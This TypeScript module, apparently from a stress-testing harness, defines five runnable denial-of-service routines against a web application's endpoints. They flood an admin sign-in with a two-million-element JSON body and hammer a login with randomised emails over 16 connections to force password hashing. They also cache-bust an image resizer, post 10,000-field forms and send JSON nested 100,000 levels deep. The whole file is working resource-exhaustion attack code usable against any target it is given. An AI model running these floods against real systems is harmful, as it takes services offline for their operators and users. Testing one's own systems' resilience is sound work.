import type { Attack } from './attack.ts'
import { ask, describe, flood } from './sockets.ts'

const json = { 'content-type': 'application/json' }

/** Attacks on calls that read a body, hash a password or render an image. */
export const writeAttacks: readonly Attack[] = [
  {
    name: 'operators’ sign-in with two million numbers',
    async run({ target, signal }) {
      const body = `[${'1,'.repeat(2_000_000)}1]`
      const sent = () =>
        ask(
          target.origin,
          {
            method: 'POST',
            path: '/apis/admin/v1/sign-in',
            headers: { ...json, origin: target.origin },
            body,
          },
          signal,
        )
      return describe(await flood(3, signal, sent))
    },
  },
  {
    name: 'passwords from rotating addresses, 16 connections',
    run: async ({ target, signal }) =>
      describe(
        await flood(16, signal, () =>
          ask(
            target.origin,
            {
              method: 'POST',
              path: '/exp-sf-cms/api/login',
              headers: { ...json, origin: target.origin },
              body: JSON.stringify({ email: `v${Math.random()}@shop.test`, password: 'correct horse' }),
            },
            signal,
          ),
        ),
      ),
  },
  {
    name: 'images in ever new sizes, 16 connections',
    async run({ target, signal }) {
      let width = 100
      const [picture = ''] = /\/mm-images\/[^"\s?]+/.exec(await (await fetch(target.origin)).text()) ?? []
      return describe(
        await flood(16, signal, () =>
          ask(target.origin, { path: `${picture}?w=${width++ % 3_000}` }, signal),
        ),
      )
    },
  },
  {
    name: 'forms with 10,000 fields',
    run: async ({ target, signal }) =>
      describe(
        await flood(8, signal, () =>
          ask(
            target.origin,
            {
              method: 'POST',
              path: '/_actions/form?id=contact',
              headers: { 'content-type': 'application/x-www-form-urlencoded', origin: target.origin },
              body: Array.from({ length: 10_000 }, (_, index) => `f${index}=x`).join('&'),
            },
            signal,
          ),
        ),
      ),
  },
  {
    name: 'JSON that is 100,000 levels deep',
    run: async ({ target, signal }) =>
      describe(
        await flood(8, signal, () =>
          ask(
            target.origin,
            {
              method: 'POST',
              path: '/apis/search-service/public/v2/contents/content-search',
              headers: json,
              body: '['.repeat(100_000) + ']'.repeat(100_000),
            },
            signal,
          ),
        ),
      ),
  },
]
